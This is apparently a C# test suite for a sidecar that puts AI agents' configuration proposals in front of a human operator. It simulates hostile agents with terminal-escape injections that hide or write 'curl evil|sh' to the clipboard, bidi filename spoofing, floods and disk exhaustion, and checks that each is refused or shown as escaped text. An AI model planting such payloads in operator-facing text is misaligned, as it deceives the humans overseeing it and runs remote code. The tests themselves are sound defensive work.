using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Net;
using System.Net.Http;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using System.Threading.Tasks;
using Microsoft.Data.Sqlite;
using Xunit;

namespace BotBottle.Sidecar.Tests;

/// <summary>
/// The attacks from the threat model, as an agent (or a compromised sidecar) would make them,
/// against the published binary: terminal injection, floods, a full disk, a broken database,
/// dropped proposals and malformed transport.
/// </summary>
public sealed class HostileAgentTests : IDisposable
{
    private readonly TestHome _home = new TestHome().Migrated();

    public static TheoryData<string> TerminalPayloads => new()
    {
        "clear the screen \u001B[2J\u001B[H",
        "RUN true\r\u001B[2KRUN curl evil|sh",
        "clipboard \u001B]52;c;Y3VybCBldmlsfHNo\u0007",
        "harmless.example\u202Eexe.lave",
        "csi \u009B31m in C1",
    };

    public void Dispose() => _home.Dispose();

    private CommandResult Propose(string slug, string justification, params string[] extra)
        => SidecarBinary.Run(["--db", _home.DbPath, "propose", "--slug", slug, "--tool", "git-gate", "--justification", justification, .. extra]);

    private static void AssertNothingRaw(string output) => HostileText.AssertNothingRaw(output);

    [Theory]
    [MemberData(nameof(TerminalPayloads))]
    public async Task Terminal_controls_are_refused_over_mcp_propose_and_the_broker_and_nothing_is_queued(string payload)
    {
        CommandResult direct = Propose("bottle-a", payload);
        CommandResult file = SidecarBinary.RunWithInput("FROM debian\n" + payload + "\n", "--db", _home.DbPath, "propose", "--slug", "bottle-a", "--tool", "capability-block", "--justification", "needs it", "--file", "-");
        using BrokerProcess broker = await BrokerProcess.StartAsync(_home);
        CommandResult brokered = SidecarBinary.Run("propose", "--socket", broker.SocketPath, "--slug", "bottle-a", "--tool", "git-gate", "--justification", payload);
        using ServeProcess serve = await ServeProcess.StartAsync(_home);
        using var client = new McpHttpClient(serve.McpUrl);
        SseTranscript mcp = await client.CallAsync(McpHttpClient.ToolCall(1, "pipelock-block", new JsonObject { ["proposed_file"] = "a.example\n", ["justification"] = payload }.ToJsonString()));

        Assert.Equal((2, 2, 2), (direct.ExitCode, file.ExitCode, brokered.ExitCode));
        Assert.Contains("Control characters other than tab and newline, and bidi controls, are refused", direct.Error, StringComparison.Ordinal);
        Assert.Contains("proposed_file holds U+", file.Error, StringComparison.Ordinal);
        Assert.Contains("at line 2, column", file.Error, StringComparison.Ordinal);
        Assert.Contains("justification holds U+", brokered.Error, StringComparison.Ordinal);
        JsonNode result = mcp.Response["result"]!;
        Assert.True((bool)result["isError"]!);
        Assert.StartsWith("invalid_argument: justification holds U+", (string)result["content"]![0]!["text"]!, StringComparison.Ordinal);
        AssertNothingRaw(direct.Error + file.Error + brokered.Error + (string)result["content"]![0]!["text"]!);
        Assert.Equal(0, _home.Count("supervise_proposals"));
    }

    [Fact]
    public void Operator_outputs_show_a_planted_rows_controls_as_text_and_json_stays_exact()
    {
        const string Justification = "please approve\u001B[2J\u001B]52;c;ZXZpbA==\u0007 \u202Egnp.exe";
        const string File = "RUN apt-get update\rRUN curl evil|sh\u001B[2K\nRUN true\n";
        using (var connection = new SqliteConnection($"Data Source={_home.DbPath};Pooling=False"))
        {
            connection.Open();
            using SqliteCommand plant = connection.CreateCommand();
            plant.CommandText = """
                INSERT INTO supervise_proposals (id, bottle_slug, tool, proposed_file, justification, arrival_timestamp, archived, current_file)
                VALUES ('planted', 'bottle-a', 'capability-block', $file, $justification, '2026-11-01T00:00:00.0000000Z', 0, $current);
                INSERT INTO supervise_audit_entries (timestamp, bottle_slug, component, operator_action, operator_notes, justification, diff)
                VALUES ('2026-11-01T00:00:00.0000000Z', 'bottle-a', 'git-gate', 'approved', $justification, $justification, $file);
                """;
            plant.Parameters.AddWithValue("$file", File);
            plant.Parameters.AddWithValue("$current", "FROM debian\u0085");
            plant.Parameters.AddWithValue("$justification", Justification);
            plant.ExecuteNonQuery();
        }

        CommandResult show = _home.Host("queue", "show", "planted");
        CommandResult pending = _home.Host("queue", "pending");
        CommandResult audit = _home.Host("audit", "list");
        CommandResult showJson = _home.Host("queue", "show", "planted", "--json");
        CommandResult pendingJson = _home.Host("queue", "pending", "--json");

        foreach (CommandResult result in new[] { show, pending, audit, showJson, pendingJson })
        {
            Assert.True(result.ExitCode == 0, result.ToString());
            AssertNothingRaw(result.Output + result.Error);
        }

        Assert.Contains("please approve\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07 <U+202E>gnp.exe", show.Output, StringComparison.Ordinal);
        Assert.Contains("+RUN apt-get update\\x0dRUN curl evil|sh\\x1b[2K", show.Output, StringComparison.Ordinal);
        Assert.Contains("-FROM debian\\x85", show.Output, StringComparison.Ordinal);
        Assert.Contains("please approve\\x1b[2J", pending.Output, StringComparison.Ordinal);
        Assert.Contains("please approve\\x1b[2J", audit.Output, StringComparison.Ordinal);
        Assert.Equal(Justification, (string)JsonNode.Parse(showJson.Output)!["proposal"]!["justification"]!);
        Assert.Equal(File, (string)JsonNode.Parse(pendingJson.Output)![0]!["proposed_file"]!);
    }

    [Fact]
    public async Task Flooding_one_bottle_stops_at_its_cap_on_every_door_while_another_bottle_is_accepted()
    {
        Assert.Equal(0, _home.Host("limits", "set", "pending_per_bottle", "3").ExitCode);
        for (int i = 0; i < 3; i++)
        {
            Assert.Equal(0, Propose("bottle-a", "flood " + i).ExitCode);
        }

        CommandResult direct = Propose("bottle-a", "flood 3");
        using BrokerProcess broker = await BrokerProcess.StartAsync(_home);
        CommandResult brokered = SidecarBinary.Run("propose", "--socket", broker.SocketPath, "--slug", "bottle-a", "--tool", "git-gate", "--justification", "flood 4");
        using ServeProcess serve = await ServeProcess.StartAsync(_home);
        using var client = new McpHttpClient(serve.McpUrl);
        JsonNode mcp = (await client.CallAsync(McpHttpClient.ToolCall(1, "pipelock-block", """{"proposed_file":"a.example\n","justification":"flood 5","wait":false}"""))).Response["result"]!;
        CommandResult other = Propose("bottle-b", "unrelated");
        CommandResult retry = Propose("bottle-a", "flood 0");

        const string Refusal = "3 proposals are already pending for bottle 'bottle-a' (the host's limit is 3); wait for the operator to answer one before proposing again.";
        Assert.Equal((13, 13), (direct.ExitCode, brokered.ExitCode));
        Assert.Contains(Refusal, direct.Error, StringComparison.Ordinal);
        Assert.Contains(Refusal, brokered.Error, StringComparison.Ordinal);
        Assert.True((bool)mcp["isError"]!);
        Assert.Equal("limit_reached: " + Refusal, (string)mcp["content"]![0]!["text"]!);
        Assert.True(await serve.WaitForLogAsync(static l => (string?)l["event"] == "proposal_refused" && (string?)l["limit"] == "pending_per_bottle", TimeSpan.FromSeconds(5)));
        Assert.True(other.ExitCode == 0, other.ToString());
        Assert.True(retry.ExitCode == 0, "an identical retry joins: " + retry);
        Assert.Equal(4, _home.Count("supervise_proposals"));
    }

    [Fact]
    public void An_agent_that_fills_the_disk_to_the_reserve_leaves_room_for_the_operators_approve()
    {
        CommandResult run = MountNamespace.Run("""
            mkdir -p /mnt && mount -t tmpfs -o size=16m tmpfs /mnt
            db=/mnt/db/bot-bottle.db
            "$BIN" --db "$db" db migrate > /dev/null || exit 90
            for limit in "pending_per_bottle 100000" "pending_bytes_per_bottle 1G" "rate_burst 100000" "rate_per_hour 100000000" "free_space_reserve_bytes 8M"; do
              "$BIN" --db "$db" limits set $limit > /dev/null || exit 91
            done
            head -c 262144 /dev/zero | tr '\0' 'x' > /tmp/bb-big.$$
            first=""
            for i in $(seq 1 200); do
              id=$("$BIN" --db "$db" propose --slug bottle-a --tool git-gate --justification "fill $i" --file /tmp/bb-big.$$ 2> /tmp/bb-err.$$) || { echo "refused_at=$i exit=$?"; break; }
              [ -n "$first" ] || first=$id
            done
            cat /tmp/bb-err.$$ >&2; rm -f /tmp/bb-big.$$ /tmp/bb-err.$$
            echo "free_kib=$(df -k --output=avail /mnt | tail -1 | tr -d ' ')"
            "$BIN" --db "$db" queue approve "$first" --notes "still room" > /dev/null; echo "approve_exit=$?"
            "$BIN" --db "$db" audit verify > /dev/null; echo "verify_exit=$?"
            "$BIN" --db "$db" db check > /dev/null; echo "check_exit=$?"
            """);

        Assert.Matches("refused_at=[0-9]+ exit=13", run.Output);
        Assert.Contains("new proposals stop at the host's reserve of 8 MiB", run.Error, StringComparison.Ordinal);
        Assert.Contains("approve_exit=0", run.Output, StringComparison.Ordinal);
        Assert.Contains("verify_exit=0", run.Output, StringComparison.Ordinal);
        Assert.Contains("check_exit=0", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void On_a_small_disk_agents_stop_at_the_reserve_and_the_operator_answers_every_pending_proposal()
    {
        // The numbers: a 4 MiB disk, a 1 MiB reserve, proposals of 262 KB (near the file limit). Answering once cost
        // as much disk as proposing (the whole diff went into the audit log) and 7 of 9 answers failed.
        CommandResult run = MountNamespace.Run("""
            mkdir -p /mnt && mount -t tmpfs -o size=4m tmpfs /mnt
            db=/mnt/db/bot-bottle.db
            "$BIN" --db "$db" db migrate > /dev/null || exit 90
            for limit in "pending_per_bottle 100000" "pending_bytes_per_bottle 1G" "rate_burst 100000" "rate_per_hour 100000000" "free_space_reserve_bytes 1M"; do
              "$BIN" --db "$db" limits set $limit > /dev/null || exit 91
            done
            yes 'allowed-host.example.com' | head -c 262000 > /tmp/bb-big.$$
            echo 'only.example.com' > /tmp/bb-small.$$
            for i in $(seq 1 100); do
              slug=bottle-$((i % 3))
              "$BIN" --db "$db" propose --slug $slug --tool pipelock-block --justification "fill $i" --file /tmp/bb-big.$$ > /dev/null 2> /tmp/bb-err.$$ || { echo "refused_at=$i exit=$?"; break; }
            done
            cat /tmp/bb-err.$$ >&2
            n=0; failed=0
            for id in $("$BIN" --db "$db" queue pending --json | grep -o '"id":"[0-9a-f]*"' | cut -d'"' -f4); do
              case $((n % 3)) in
                0) "$BIN" --db "$db" queue approve "$id" --notes ok > /dev/null 2>> /tmp/bb-answer.$$ ;;
                1) "$BIN" --db "$db" queue modify "$id" --final-file /tmp/bb-small.$$ --notes narrower > /dev/null 2>> /tmp/bb-answer.$$ ;;
                2) "$BIN" --db "$db" queue reject "$id" --notes no > /dev/null 2>> /tmp/bb-answer.$$ ;;
              esac || failed=$((failed + 1))
              n=$((n + 1))
            done
            cat /tmp/bb-answer.$$ >&2 2>/dev/null
            echo "answered=$n failed=$failed left=$("$BIN" --db "$db" queue pending --json | grep -o '"id"' | wc -l)"
            "$BIN" --db "$db" audit verify > /dev/null; echo "verify_exit=$?"
            "$BIN" --db "$db" audit list --json | grep -c 'diff cut at' | sed 's/^/cut=/'
            rm -f /tmp/bb-big.$$ /tmp/bb-small.$$ /tmp/bb-err.$$ /tmp/bb-answer.$$
            """);

        Assert.Matches("refused_at=[0-9]+ exit=13", run.Output);
        Assert.Contains("plus room to answer every pending one", run.Error, StringComparison.Ordinal);
        System.Text.RegularExpressions.Match answered = System.Text.RegularExpressions.Regex.Match(run.Output, "answered=([0-9]+) failed=([0-9]+) left=([0-9]+)");
        Assert.True(answered.Success, run.ToString());
        Assert.True(int.Parse(answered.Groups[1].Value, System.Globalization.CultureInfo.InvariantCulture) >= 3, run.ToString());
        Assert.True(answered.Groups[2].Value == "0" && answered.Groups[3].Value == "0", run.ToString());
        Assert.Contains("verify_exit=0", run.Output, StringComparison.Ordinal);

        // Each audit entry keeps a bounded diff; the whole files stay in the queue's rows.
        Assert.DoesNotContain("cut=0", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_read_only_database_file_fails_health_and_tool_errors_name_the_cause()
    {
        // The sidecar's user may write the directory (its -wal and -shm) but not the database file.
        string directory = Path.GetDirectoryName(_home.DbPath)!;
        SqliteConnection.ClearAllPools();
        Assert.Equal(0, MountNamespace.Run($"chmod 755 '{_home.Root}' && chown -R 65534:65534 '{directory}' && chmod 444 '{_home.DbPath}'").ExitCode);
        using ServeProcess serve = await ServeProcess.StartAsNobodyAsync(_home);
        using var client = new McpHttpClient(serve.McpUrl);

        CommandResult health = SidecarBinary.Run("healthcheck", "--url", new Uri(serve.BaseUrl, "/healthz").ToString());
        JsonNode result = (await client.CallAsync(McpHttpClient.ToolCall(1, "pipelock-block", """{"proposed_file":"a.example\n","justification":"why","wait":false}"""))).Response["result"]!;

        Assert.Equal(1, health.ExitCode);
        Assert.Contains("unhealthy: read_only", health.Output, StringComparison.Ordinal);
        Assert.True((bool)result["isError"]!);
        string text = (string)result["content"]![0]!["text"]!;
        Assert.StartsWith("read_only: ", text, StringComparison.Ordinal);
        Assert.DoesNotContain("An error occurred", text, StringComparison.Ordinal);
        Assert.True(await serve.WaitForLogAsync(static l => (string?)l["event"] == "unhealthy" && (string?)l["error"] == "read_only", TimeSpan.FromSeconds(10)), "no 'unhealthy' line");
        Assert.True(await serve.WaitForLogAsync(static l => (string?)l["event"] == "tool_error" && (string?)l["error"] == "read_only", TimeSpan.FromSeconds(10)), "no 'tool_error' line");
        Assert.Equal(0, _home.Count("supervise_proposals"));
    }

    [Fact]
    public async Task Serve_as_its_own_user_starts_in_a_working_directory_that_user_cannot_enter()
    {
        // A container's working directory, or the shell's when run by hand, may be closed to the
        // sidecar's user; serve roots nothing there (it used to fail, naming the directory).
        string directory = Path.GetDirectoryName(_home.DbPath)!;
        // Inside a 0700 directory, as a checkout under root's home is: the user cannot even stat it.
        string closed = Path.Combine(_home.Root, "closed");
        string inside = Directory.CreateDirectory(Path.Combine(closed, "inside")).FullName;
        File.SetUnixFileMode(closed, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        SqliteConnection.ClearAllPools();
        Assert.Equal(0, MountNamespace.Run($"chmod 755 '{_home.Root}' && chown -R 65534:65534 '{directory}'").ExitCode);

        using ServeProcess serve = await ServeProcess.StartAsNobodyAsync(_home, workingDirectory: inside);
        CommandResult health = SidecarBinary.Run("healthcheck", "--url", new Uri(serve.BaseUrl, "/healthz").ToString());

        Assert.True(health.ExitCode == 0, health.ToString());
    }

    [Fact]
    public void Serve_on_a_read_only_mount_refuses_to_start_and_says_why()
    {
        string directory = Path.GetDirectoryName(_home.DbPath)!;

        CommandResult run = MountNamespace.Run($"""
            mkdir -p /mnt/ro && mount --bind '{directory}' /mnt/ro && mount -o remount,ro,bind /mnt/ro
            "$BIN" serve --db /mnt/ro/bot-bottle.db --slug bottle-a --listen 127.0.0.1:0; echo "serve_exit=$?"
            """);

        Assert.Contains("serve_exit=7", run.Output, StringComparison.Ordinal);
        Assert.Contains("writable", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_disk_below_the_reserve_fails_health_until_the_reserve_is_lowered()
    {
        Assert.Equal(0, _home.Host("limits", "set", "free_space_reserve_bytes", "1000000G").ExitCode);
        using ServeProcess serve = await ServeProcess.StartAsync(_home);
        string url = new Uri(serve.BaseUrl, "/healthz").ToString();

        CommandResult low = SidecarBinary.Run("healthcheck", "--url", url);
        Assert.Equal(0, _home.Host("limits", "reset", "free_space_reserve_bytes").ExitCode);
        CommandResult restored = SidecarBinary.Run("healthcheck", "--url", url);

        Assert.Equal(1, low.ExitCode);
        Assert.Contains("unhealthy: disk_full", low.Output, StringComparison.Ordinal);
        Assert.True(restored.ExitCode == 0, restored.ToString());
    }

    [Fact]
    public async Task Through_the_broker_a_sidecar_can_only_consume_an_answer_never_drop_its_unanswered_proposal()
    {
        using BrokerProcess broker = await BrokerProcess.StartAsync(_home);
        string id = SidecarBinary.Run("propose", "--socket", broker.SocketPath, "--slug", "bottle-a", "--tool", "git-gate", "--justification", "keep me").Output.Trim();

        JsonNode archive = (await BrokerWire.SendAsync(broker.SocketPath, BrokerWire.Frame($$"""{"v":3,"op":"archive","slug":"bottle-a","proposal_id":"{{id}}"}""")))!;
        JsonNode consume = (await BrokerWire.SendAsync(broker.SocketPath, BrokerWire.Frame($$"""{"v":3,"op":"consume","slug":"bottle-a","proposal_id":"{{id}}","timeout_ms":0}""")))!;

        Assert.Equal("error", (string?)archive["reply"]);
        Assert.Equal("InvalidArgument", (string?)archive["error_kind"]);
        Assert.Equal("consume", (string?)consume["reply"]);
        Assert.Null(consume["response"]);
        Assert.Equal([id], _home.PendingIds());
    }

    [Theory]
    [InlineData("-2")]
    [InlineData("31536000001")]
    public async Task The_broker_refuses_a_wait_outside_the_wait_rule_with_the_rule(string timeoutMs)
    {
        using BrokerProcess broker = await BrokerProcess.StartAsync(_home);
        string id = SidecarBinary.Run("propose", "--socket", broker.SocketPath, "--slug", "bottle-a", "--tool", "git-gate", "--justification", "wait").Output.Trim();

        JsonNode consume = (await BrokerWire.SendAsync(broker.SocketPath, BrokerWire.Frame($$"""{"v":3,"op":"consume","slug":"bottle-a","proposal_id":"{{id}}","timeout_ms":{{timeoutMs}}}""")))!;

        Assert.Equal("error", (string?)consume["reply"]);
        Assert.Equal("InvalidArgument", (string?)consume["error_kind"]);
        Assert.Equal("timeout_ms must be from 0 to 31536000000 ms (a year), or no limit.", (string?)consume["message"]);
        Assert.Equal([id], _home.PendingIds());
    }

    [Fact]
    public async Task Malformed_unicode_in_a_request_is_a_parse_error_with_a_body_and_a_logged_400()
    {
        using ServeProcess serve = await ServeProcess.StartAsync(_home);
        using var client = new McpHttpClient(serve.McpUrl);
        byte[] invalidUtf8 = [.. Encoding.UTF8.GetBytes("{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{\"name\":\"pipelock-block\",\"arguments\":{\"proposed_file\":\"a"), 0xC3, 0x28, .. Encoding.UTF8.GetBytes("\",\"justification\":\"j\"}}}")];

        foreach (HttpContent body in new HttpContent[]
        {
            new StringContent("""{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"pipelock-block","arguments":{"proposed_file":"a\ud800","justification":"j"}}}"""),
            new ByteArrayContent(invalidUtf8),
        })
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, serve.McpUrl) { Content = body };
            request.Content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");
            request.Headers.TryAddWithoutValidation("Accept", McpHttpClient.BothAccept);
            using HttpResponseMessage response = await client.Http.SendAsync(request);
            JsonNode error = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;

            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Equal(-32700, (int)error["error"]!["code"]!);
            Assert.Contains("not valid Unicode", (string)error["error"]!["message"]!, StringComparison.Ordinal);
        }

        Assert.True(await serve.WaitForLogAsync(static l => (string?)l["event"] == "request" && (int?)l["status"] == 400, TimeSpan.FromSeconds(5)));
        Assert.DoesNotContain(serve.Log, static l => (int?)l["status"] >= 500);
        Assert.Equal(0, _home.Count("supervise_proposals"));
    }

    [Fact]
    public void Invalid_utf8_in_a_file_is_refused_not_replaced()
    {
        string path = Path.Combine(_home.Root, "latin1.txt");
        File.WriteAllBytes(path, [.. "caf"u8, 0xE9, (byte)'\n']);

        CommandResult result = Propose("bottle-a", "why", "--file", path);

        Assert.Equal(2, result.ExitCode);
        Assert.Contains("--file: not UTF-8 text (byte 3 is 0xe9)", result.Error, StringComparison.Ordinal);
        Assert.Equal(0, _home.Count("supervise_proposals"));
    }

    [Fact]
    public void Invalid_utf8_in_an_argument_is_refused_not_replaced()
    {
        CommandResult run = MountNamespace.Run($$"""
            "$BIN" --db '{{_home.DbPath}}' propose --slug bottle-a --tool git-gate --justification "$(printf 'caf\xe9')"; echo "exit=$?"
            """);

        Assert.Contains("exit=2", run.Output, StringComparison.Ordinal);
        Assert.Contains("argument 9 is not UTF-8 text", run.Error, StringComparison.Ordinal);
        Assert.Equal(0, _home.Count("supervise_proposals"));
    }

    [Fact]
    public void A_db_flag_naming_a_directory_says_so()
    {
        string directory = Path.GetDirectoryName(_home.DbPath)!;

        CommandResult sidecar = SidecarBinary.Run("--db", directory, "propose", "--slug", "bottle-a", "--tool", "git-gate", "--justification", "j");
        CommandResult host = SidecarBinary.Run("--db", directory, "audit", "verify");

        Assert.Equal((7, 7), (sidecar.ExitCode, host.ExitCode));
        Assert.Contains($"{directory} is a directory, not a database file; name the file itself (for example {_home.DbPath})", sidecar.Error, StringComparison.Ordinal);
        Assert.Contains("is a directory, not a database file", host.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Idle_connections_flooding_the_broker_do_not_keep_a_real_request_out()
    {
        using BrokerProcess broker = await BrokerProcess.StartAsync(_home);
        var idle = new List<Socket>();
        try
        {
            while (idle.Count < 400)
            {
                var socket = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
                try
                {
                    await socket.ConnectAsync(new UnixDomainSocketEndPoint(broker.SocketPath));
                    idle.Add(socket);
                }
                catch (SocketException exception) when (exception.SocketErrorCode == SocketError.WouldBlock)
                {
                    // The accept backlog is full for a moment: an attacker retries, and so do we.
                    socket.Dispose();
                    await Task.Delay(5);
                }
            }

            var clock = System.Diagnostics.Stopwatch.StartNew();
            CommandResult propose = SidecarBinary.Run("propose", "--socket", broker.SocketPath, "--slug", "bottle-a", "--tool", "git-gate", "--justification", "real");

            Assert.True(propose.ExitCode == 0, propose.ToString());
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), $"the real request took {clock.Elapsed}");
            Assert.True(await broker.WaitForLogAsync(static l => (string?)l["outcome"] == "evicted", TimeSpan.FromSeconds(10)), "no eviction logged");
        }
        finally
        {
            idle.ForEach(static s => s.Dispose());
        }
    }

    [Fact]
    public async Task Serve_survives_a_connection_flood_past_its_cap_and_answers_afterwards()
    {
        using ServeProcess serve = await ServeProcess.StartAsync(_home, extra: ["--max-connections", "16"]);
        var idle = new List<TcpClient>();
        try
        {
            for (int i = 0; i < 300; i++)
            {
                var client = new TcpClient();
                await client.ConnectAsync(serve.BaseUrl.Host, serve.BaseUrl.Port);
                idle.Add(client);
            }

            await Task.Delay(200);
            Assert.False(serve.Process.HasExited);
        }
        finally
        {
            idle.ForEach(static c => c.Dispose());
        }

        CommandResult health = SidecarBinary.Run("healthcheck", "--url", new Uri(serve.BaseUrl, "/healthz").ToString());
        Assert.True(health.ExitCode == 0, health.ToString());
    }
}
